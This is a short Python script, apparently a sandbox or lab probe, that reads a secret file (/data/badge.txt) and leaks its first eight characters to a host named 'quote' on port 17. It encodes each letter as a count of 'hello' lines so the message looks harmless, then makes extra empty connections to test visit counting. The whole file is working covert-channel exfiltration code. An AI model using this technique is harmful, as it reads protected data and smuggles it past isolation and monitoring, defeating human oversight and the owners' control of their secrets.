# One greeting is no message. How about many?
import os
import socket


def attempt(action):
    try:
        print("GOT", action())
    except OSError as error:
        print(type(error).__name__, error)


with open("/data/badge.txt", "rb") as file:
    badge = file.read().strip()


visits = 0


def visit(greetings):
    global visits
    with socket.create_connection(("quote", 17), timeout=1) as door:
        visits += 1
        for _ in range(greetings):
            door.sendall(b"hello\n")


# As many greetings as the letter has in the alphabet: the service can read it.
for letter in badge[:8]:
    attempt(lambda: visit(letter % 32))
# And as many visits as one likes.
for _ in range(10):
    attempt(lambda: visit(0))
print("visits", visits)
